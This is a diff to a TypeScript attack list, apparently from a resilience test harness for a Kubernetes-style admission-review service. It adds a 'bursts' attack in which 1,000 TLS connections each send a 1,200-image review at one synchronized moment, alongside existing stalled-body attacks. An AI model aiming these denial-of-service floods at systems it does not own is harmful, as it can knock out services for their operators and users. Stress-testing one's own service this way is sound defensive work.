@@ -1,7 +1,7 @@
 import type { Socket } from 'node:net';
 import type { Attack } from './attack.ts';
 import { gatherCrowd } from './crowd.ts';
-import { headOf, requestOf, reviewOf } from './request.ts';
+import { headOf, requestOf, reviewOf, reviewOfMany } from './request.ts';
 import { askAgain, openTls } from './socket.ts';
 
 const mebibyte = 1024 * 1024;
@@ -20,6 +20,15 @@ function largestReview(): string {
   return reviewOf(containers).replaceAll('<', '\\u003c');
 }
 
+/** A little less than what a small body may have. */
+const firstReview = requestOf(reviewOfMany(1_200, (index) => `k8s.gcr.io/pause:${index}`));
+const burstInterval = 5_000;
+
+/** Returns the time until all connections send, in milliseconds. */
+function burstAt(): number {
+  return burstInterval - (Date.now() % burstInterval);
+}
+
 /** Lists attacks with bodies that are large, or do not end. */
 export const bodyAttacks: readonly Attack[] = [
   {
@@ -30,6 +39,20 @@ export const bodyAttacks: readonly Attack[] = [
         size: 300,
         open: openTls,
         use: (socket) => stall(socket, mebibyte),
+        reads: true,
+      }),
+  },
+  {
+    name: 'bursts',
+    summary: '1,000 connections send their first review, of 1,200 images, in one moment',
+    begin: (target) =>
+      gatherCrowd(target, {
+        size: 1_000,
+        open: openTls,
+        use: (socket) => {
+          const timer = setTimeout(() => socket.write(firstReview), burstAt());
+          socket.once('close', () => clearTimeout(timer));
+        },
         reads: true,
       }),
   },
